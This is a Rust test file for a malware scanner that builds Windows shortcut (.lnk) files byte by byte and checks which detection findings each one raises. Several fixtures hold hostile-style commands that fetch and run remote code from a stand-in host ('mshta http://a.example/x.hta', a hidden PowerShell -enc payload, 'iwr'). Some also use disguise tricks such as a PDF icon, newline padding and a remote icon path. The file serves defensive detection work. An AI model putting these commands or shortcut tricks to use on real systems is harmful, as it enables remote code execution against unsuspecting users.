use crate::examine;
use strongroom_model::{Limits, Report, Verdict};

fn counted(text: &str) -> Vec<u8> {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut bytes = (units.len() as u16).to_le_bytes().to_vec();
    bytes.extend(units.into_iter().flat_map(u16::to_le_bytes));
    bytes
}

/// A block behind the strings.
fn block(signature: u32, body: &[u8]) -> Vec<u8> {
    let mut bytes = (body.len() as u32 + 8).to_le_bytes().to_vec();
    bytes.extend(signature.to_le_bytes());
    bytes.extend(body);
    bytes
}

/// A shortcut with blocks before its end.
fn with_blocks(mut bytes: Vec<u8>, blocks: &[Vec<u8>]) -> Vec<u8> {
    bytes.truncate(bytes.len() - 4);
    bytes.extend(blocks.concat());
    bytes.extend([0; 4]);
    bytes
}

/// A shortcut with a relative path, arguments and an icon.
fn shortcut(program: &str, arguments: &str, icon: &str, show: u32) -> Vec<u8> {
    let mut bytes = b"\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46".to_vec();
    bytes.extend(0xE8u32.to_le_bytes());
    bytes.extend([0; 36]);
    bytes.extend(show.to_le_bytes());
    bytes.extend([0; 12]);
    for text in [program, arguments, icon] {
        bytes.extend(counted(text));
    }
    bytes.extend([0; 4]);
    bytes
}

fn read(bytes: &[u8]) -> Report {
    examine("a.lnk", bytes, &Limits::default())
}

fn has(report: &Report, code: &str) -> bool {
    report.findings.iter().any(|finding| finding.code == code)
}

#[test]
fn a_shortcut_to_a_program_is_clean() {
    for (program, arguments) in [
        ("..\\Program Files\\Editor\\editor.exe", "\"%1\""),
        ("C:\\Windows\\System32\\cmd.exe", ""),
        ("cmd.exe", "/k \"C:\\Tools\\prompt.bat\""),
        ("powershell.exe", "-NoExit -Command \"& { Import-Module Tools }\""),
    ] {
        let report = read(&shortcut(program, arguments, "", 1));
        assert_eq!(
            report.verdict(),
            Verdict::Clean,
            "{program}: {}",
            report.because()
        );
    }
}

#[test]
fn a_command_unfolds() {
    let inner = "mshta http://a.example/x.hta";
    let wide: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, wide);
    let report = read(&shortcut(
        "powershell.exe",
        &format!("-w hidden -enc {encoded}"),
        "a.pdf",
        7,
    ));
    for code in [
        "files.shortcut-interpreter",
        "files.shortcut-unseen",
        "files.shortcut-disguised",
        "script.encoded-command",
        "script.proxy",
    ] {
        assert!(has(&report, code), "{code}: {:?}", report.findings);
    }
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn padding_is_told() {
    let report = read(&shortcut(
        "cmd.exe",
        &format!("{}/c echo x", "\r\n".repeat(200)),
        "",
        1,
    ));
    assert!(has(&report, "files.shortcut-padded"));
}

#[test]
fn a_file_behind_a_shortcut_is_read() {
    let mut bytes = shortcut("a.exe", "", "", 1);
    bytes.extend(b"{\\rtf1 x}");
    let report = read(&bytes);
    assert!(has(&report, "files.behind-shortcut"));
    assert_eq!(report.children.len(), 1);
}

#[test]
fn each_of_several_targets_is_read() {
    let mut path = b"%ComSpec%".to_vec();
    path.resize(260 + 520, 0);
    let plain = shortcut("a.pdf", "/c mshta http://a.example/x.hta", "", 1);
    let report = read(&with_blocks(plain, &[block(0xA000_0001, &path)]));
    assert!(
        has(&report, "files.shortcut-interpreter"),
        "{:?}",
        report.findings
    );
    assert!(has(&report, "files.shortcut-targets"));
    assert!(has(&report, "script.proxy"));
}

#[test]
fn a_target_in_the_property_store_is_read() {
    // System.Link.TargetParsingPath: a text of UTF-16.
    let path: Vec<u8> = "powershell.exe\0"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut value = vec![2, 0, 0, 0, 0, 0x1F, 0, 0, 0, 15, 0, 0, 0];
    value.extend(path);
    let mut store = b"1SPS\xFC\xB3\xB4\xB9\x51\x2B\x42\x4A\xB5\xD8\x32\x41\x46\xAF\xCF\x25".to_vec();
    store.extend((value.len() as u32 + 4).to_le_bytes());
    store.extend(value);
    store.extend([0; 4]);
    let store = [&(store.len() as u32 + 4).to_le_bytes()[..], &store, &[0; 4]].concat();
    let plain = shortcut("", "-w hidden -c iwr http://a.example/x", "", 1);
    let report = read(&with_blocks(plain, &[block(0xA000_0009, &store)]));
    assert!(
        has(&report, "files.shortcut-interpreter"),
        "{:?}",
        report.findings
    );
    let cut = with_blocks(shortcut("a.exe", "", "", 1), &[block(0xA000_0009, &store[..40])]);
    assert_eq!(read(&cut).verdict(), Verdict::NotCleared);
}

#[test]
fn an_icon_of_another_machine_is_told() {
    let elsewhere = read(&shortcut("a.exe", "", "\\\\192.0.2.7\\s\\a.ico", 1));
    assert!(has(&elsewhere, "files.shortcut-icon-elsewhere"));
    let same = read(&shortcut(
        "\\\\h.example\\s\\a.exe",
        "",
        "\\\\h.example\\s\\a.ico",
        1,
    ));
    assert!(!has(&same, "files.shortcut-icon-elsewhere"));
}

#[test]
fn what_stands_behind_a_damaged_block_is_looked_at() {
    let damaged = |tail: &[u8]| {
        let mut bytes = shortcut("a.exe", "x", "", 1);
        bytes.truncate(bytes.len() - 4);
        bytes.extend([&[0xFF; 4][..], tail].concat());
        read(&bytes)
    };
    assert_eq!(damaged(&[7; 2000]).verdict(), Verdict::NotCleared);
    assert!(has(&damaged(b"....{\\rtf1 x}%PDF-1.4 "), "files.behind-shortcut"));
    assert_eq!(damaged(&[7; 20]).verdict(), Verdict::Clean);
}

#[test]
fn every_cut_is_answered() {
    let bytes = shortcut("cmd.exe", "/c echo x", "a.ico", 1);
    for end in 0..bytes.len() {
        read(&bytes[..end]);
    }
}
